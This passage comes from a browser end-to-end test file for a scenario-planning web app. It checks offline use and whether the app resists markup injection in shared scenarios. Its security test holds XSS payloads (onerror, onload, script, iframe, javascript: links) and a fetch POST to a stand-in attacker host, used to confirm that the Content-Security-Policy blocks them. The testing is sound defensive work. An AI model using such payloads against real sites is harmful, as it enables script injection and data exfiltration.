  const ctx = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  ctx.on('request', (r) => requests.push(r.url()));
  const p = await newPage(ctx);
  await p.goto(`${origin}/`);
  await ready(p);
  await p.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller)
      await new Promise((ok) =>
        navigator.serviceWorker.addEventListener('controllerchange', ok, { once: true }),
      );
  });
  await ctx.setOffline(true);
  await p.reload();
  await ready(p);
  await runTo(p, 50, 3);
  eq(await p.locator('[data-prov="runs"]').innerText(), '50', 'ran offline');
  await p.locator('#results-scroll').evaluate((e) => (e.scrollTop = 0));
  await p.screenshot({ path: join(shots, 'offline-1280.png') });
  await ctx.close();
});

await test('markup in a shared scenario shows as text and loads nothing (Content-Security-Policy)', async () => {
  const evil = {
    name: '<img src="http://evil.example/name.png" onerror="window.pwned=1"><script>window.pwned=2</script>',
    pod: '<svg onload="window.pwned=3"><a href="javascript:window.pwned=4">pod</a></svg>',
    placement: '"><iframe src="http://evil.example/frame"></iframe>',
    campaign: '<link rel="stylesheet" href="http://evil.example/x.css"><b>campaign</b>',
  };
  // Made in the form, as anyone could, and shared as a link.
  const maker = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  maker.on('request', (r) => requests.push(r.url()));
  const m = await newPage(maker);
  await m.goto(`${origin}/`);
  await ready(m);
  await m.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
  await m.fill('#in-name', evil.name);
  await m.fill('#in-pods-0-name', evil.pod);
  await m.fill('#in-looked_after-placements-0-name', evil.placement);
  await m.fill('#in-recruitment-campaigns-0-name', evil.campaign);
  await valid(m);
  await m.click('#share');
  const url = await m.inputValue('#share-url');
  await maker.close();

  const ctx = await browser.newContext({
    viewport: { width: 1400, height: 900 },
    acceptDownloads: true,
  });
  ctx.on('request', (r) => requests.push(r.url()));
  const p = await newPage(ctx);
  const seen = [];
  p.on('request', (r) => seen.push(r.url()));
  await p.goto(url);
  await ready(p);
  const csp = await p.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
  );
  assert(/default-src 'self'/.test(csp) && /connect-src 'self'/.test(csp), `CSP: ${csp}`);
  eq(await p.locator('#working-name').innerText(), evil.name, 'the name shows as text');
  await valid(p);
  await p.click('#notice-run');
  await p.waitForSelector('[data-prov="name"]', { timeout: 60000 });
  eq(await p.locator('[data-prov="name"]').innerText(), evil.name, 'provenance shows it as text');
  assert(
    (await p.locator('#sec-questions').innerText()).includes(evil.campaign),
    'the campaign’s name shows as text',
  );
  const injected = await p.evaluate(() => ({
    pwned: window.pwned ?? null,
    elements: [...document.querySelectorAll('img, iframe, script, link, svg a, b')]
      .map((e) => e.outerHTML)
      .filter((x) => x.includes('evil') || x.includes('pwned') || x.includes('<b>campaign')),
  }));
  eq(injected.pwned, null, 'no script ran');
  eq(injected.elements.length, 0, `no element made from the names: ${injected.elements.join(' ')}`);
  // The budget paper made from it, opened from the page, shows the names as text too.
  await downloadOf(p, () => p.click('#dl-report'));
  await p.waitForSelector('#open-report-html', { timeout: 60000 });
  const [popup] = await Promise.all([ctx.waitForEvent('page'), p.click('#open-report-html')]);
  popup.on('request', (r) => seen.push(r.url()));
  await popup.waitForLoadState();
  assert((await popup.locator('body').innerText()).includes(evil.name), 'report shows the name');
  eq(await popup.evaluate(() => window.pwned ?? null), null, 'no script ran in the report');
  await popup.close();
  // And the policy is enforced: the page itself cannot reach another site.
  expectingErrors(true);
  const blocked = await p.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.violatedDirective),
    );
    const fetched = await fetch('http://evil.example/collect', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    );
    const img = new Image();
    img.src = 'http://evil.example/pixel.png';
    await new Promise((ok) => setTimeout(ok, 300));
    return { fetched, violations };
  });
  expectingErrors(false);
  eq(blocked.fetched, 'blocked', 'fetch to another site blocked');
  assert(
    blocked.violations.includes('connect-src') && blocked.violations.includes('img-src'),
    `violations reported: ${blocked.violations.join(', ')}`,
  );
  assert(blockedByCsp.has('http://evil.example/pixel.png'), 'the image request stopped by the CSP');
  const foreign = seen.filter(
    (u) => !u.startsWith(origin) && !/^(blob|data):/.test(u) && !blockedByCsp.has(u),
  );
  eq(foreign.length, 0, `requests left the origin: ${foreign.join(', ')}`);
  await ctx.close();
});

await finish(() => {
  if (timing !== undefined)
    console.log(`timing: ${TIMING_RUNS} runs in ${(timing / 1000).toFixed(1)} s`);
});
